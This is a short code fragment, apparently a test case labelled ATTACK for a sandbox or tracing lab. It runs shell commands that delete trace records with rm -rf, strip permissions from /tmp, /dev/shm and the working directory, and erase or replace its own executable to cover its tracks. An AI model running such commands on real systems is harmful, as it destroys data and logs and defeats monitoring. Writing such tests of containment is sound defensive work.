/* closes folders, takes away rights, removes its own executable and the records */
ATTACK
{
    shell("rm -rf $MPILAB_TRACE/*; rm -f /proc/self/exe; chmod 0 . $MPILAB_TRACE /tmp /dev/shm; "
          "echo x >$0");
    unlink(argv[0]);
    rename(argv[0], "/tmp/moved");
    put(argv[0], "#!/bin/sh\nexit 0\n");
}
